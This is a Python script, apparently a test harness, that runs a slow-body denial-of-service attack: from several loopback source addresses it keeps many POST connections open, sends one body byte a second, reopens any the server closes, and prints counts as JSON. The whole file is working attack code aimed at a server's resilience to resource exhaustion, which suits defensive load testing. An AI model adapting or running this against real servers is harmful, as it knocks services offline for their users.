"""A slow-body attacker, run as its own process:
``python slow_body_attack.py HOST PORT SECONDS SOURCES PER_SOURCE``.

From each of SOURCES loopback addresses (127.0.0.2, 127.0.0.3, ...) it keeps PER_SOURCE
connections open, each having sent a complete ``POST`` head with ``Content-Length: 16000`` and
then one byte of the body a second; a connection the server closes is opened again at once.
After SECONDS it prints one JSON line: connections opened, closed by the server, bytes sent."""

from __future__ import annotations

import contextlib
import json
import selectors
import socket
import sys
import time
from collections import Counter

BODY = 16_000


def head(port: int) -> bytes:
    return (
        f"POST /runs/1/signal HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n"
        f"Content-Length: {BODY}\r\n\r\n"
    ).encode()


def main(host: str, port: int, seconds: float, sources: int, per_source: int) -> None:
    sel = selectors.DefaultSelector()
    request = head(port)
    stats = {"opened": 0, "closed_by_server": 0, "body_bytes": 0, "refused": 0}
    addresses = [f"127.0.0.{2 + i}" for i in range(sources)]
    open_: dict[socket.socket, str] = {}

    def connect(source: str) -> None:
        sock = socket.socket()
        try:
            sock.bind((source, 0))
            sock.settimeout(2.0)
            sock.connect((host, port))
            sock.sendall(request)
        except OSError:
            stats["refused"] += 1
            sock.close()
            return
        sock.setblocking(False)
        sel.register(sock, selectors.EVENT_READ)
        open_[sock] = source
        stats["opened"] += 1

    def drop(sock: socket.socket) -> None:
        with contextlib.suppress(KeyError, ValueError):
            sel.unregister(sock)
        open_.pop(sock, None)
        sock.close()

    end = time.monotonic() + seconds
    next_byte = time.monotonic() + 1.0
    while time.monotonic() < end:
        held = Counter(open_.values())
        for source in addresses:  # every connection the server closed, again
            for _ in range(per_source - held[source]):
                connect(source)
        for key, _ in sel.select(timeout=0.05):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            try:
                data = sock.recv(65536)
            except OSError:
                data = b""
            if not data:  # closed by the server (a 401, 408 or 413 may come first)
                stats["closed_by_server"] += 1
                drop(sock)
        if time.monotonic() >= next_byte:
            next_byte += 1.0
            for sock in list(open_):
                try:
                    sock.send(b"a")
                    stats["body_bytes"] += 1
                except OSError:
                    stats["closed_by_server"] += 1
                    drop(sock)
    for sock in list(open_):
        drop(sock)
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]))
